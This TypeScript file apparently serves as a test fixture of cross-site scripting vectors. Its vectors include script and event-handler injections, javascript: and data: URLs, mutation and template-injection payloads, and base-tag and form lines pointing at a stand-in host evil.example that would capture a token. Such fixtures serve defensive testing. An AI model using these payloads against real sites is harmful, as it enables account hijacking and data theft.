/**
 * Texts that become markup or run where a page takes them for HTML, an attribute, a URL, a style or a script. What they make has the class `xss`;
 * what runs opens a dialog or sets `globalThis.xss`.
 */
export const vectors: readonly string[] = [
  '<script class=xss>alert("pwned")</script>',
  '<img class=xss src=x onerror=alert("pwned")>',
  '"><svg class=xss onload=alert("pwned")>',
  `'><b class=xss>pwned</b>`,
  '</title><script class=xss>globalThis.xss=1</script>',
  '</textarea><img class=xss src=x onerror=globalThis.xss=1>',
  'javascript:alert("pwned")',
  ' javascript:alert("pwned")//',
  'data:text/html,<script>alert("pwned")</script>',
  '" onmouseover="alert(1)" class="xss',
  `' autofocus onfocus='alert(1)' class='xss`,
  '<iframe class=xss srcdoc="<script>parent.xss=1</script>"></iframe>',
  '<a class=xss href="javascript:alert(1)">pwned</a>',
  '<style class=xss>*{display:none}</style>',
  '<base href="https://evil.example/" class=xss>',
  '<form class=xss action="https://evil.example/"><input name=token>',
  '<math class=xss><mtext></mtext><mglyph><style><!--</style><img title="--><img src=x onerror=alert(1)>">',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<!--><img class=xss src=x onerror=alert(1)>-->',
  '\u2028<img class=xss src=x onerror=alert(1)>',
  '\u202e<b class=xss>detrever</b>',
  'hasOwnProperty',
  'constructor',
]
